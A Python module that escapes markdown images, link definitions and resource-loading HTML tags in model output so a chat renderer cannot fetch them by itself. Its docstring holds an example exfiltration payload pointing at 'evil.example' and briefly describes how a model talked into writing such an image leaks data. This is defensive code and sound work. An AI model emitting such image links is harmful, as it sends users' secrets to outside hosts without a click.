"""Escape what is loaded without a click: images, and tags that load, run or swallow something.

    "![](https://evil.example/?q=secret)" → "!\\[](https://evil.example/?q=secret)"
    "<img src=…>"                          → "< img src=…>"

A model that repeats an image in its answer makes a chat window fetch it, with whatever the model
was talked into writing behind the question mark. A link waits for a person to click: links stay.
Code such as `arr![0]`, `vec![1, 2]` and `!important` is no image, and stays as it is.
"""

from __future__ import annotations

import re

__all__ = ["escape_images", "escape_open_images"]

_NAMES = (
    "applet|audio|base|details|dialog|embed|frame|frameset|iframe|image|img|input|link|math|meta"
    "|noscript|object|picture|plaintext|script|select|source|style|svg|template|textarea|title"
    "|track|video|xmp"
)
_ATTRIBUTES = "background|poster|src|srcset|style"
_TAG = re.compile(
    rf"<(?=(?:{_NAMES})(?![\w-])|!--|!\[CDATA|[a-z][\w:-]*+[\s/][^<]*?\b(?:{_ATTRIBUTES})\s*=)",
    re.IGNORECASE,
)
# `[label]: address` at the start of a line, also inside a quote or an item: it turns every
# `![label]` of the whole text into an image. A relative address reaches no other host.
_DEFINITION = re.compile(
    r"^([ \t]*+(?:(?:>|[-*+]|\d{1,9}[.)])[ \t]*+)*+)"
    r"\[(?=[^\[\]]{1,999}\]:\s*+[^\s:&\\/]*+(?:[:&\\]|//))",
    re.MULTILINE,
)
_PARAGRAPH_END = re.compile(r"(\n[ \t]*+\n)")  # no image goes on behind a blank line

_OPEN = re.compile(r"!\[(?!(?:[^\[\]`\\<]|\[[^\[\]`\\<]*+\])*+\])")


def escape_images(text: str) -> str:
    """Return the text without anything that a renderer would load by itself."""
    if "<" in text:
        text = _TAG.sub("< ", text)
    if "]:" in text:
        text = _DEFINITION.sub(r"\1\\[", text)
    if "![" in text and "](" in text:
        text = "".join(map(_escape_inline, _PARAGRAPH_END.split(text)))
    return text


def _escape_inline(paragraph: str) -> str:
    """Escape every `![` that a later `](` of the paragraph may close."""
    end = paragraph.rfind("](")
    if end < 0:
        return paragraph
    return paragraph[:end].replace("![", "!\\[") + paragraph[end:]


def escape_open_images(line: str) -> str:
    """Escape every `![` that the line does not close: a later line of the paragraph might."""
    return _OPEN.sub(r"!\\[", line) if "![" in line else line
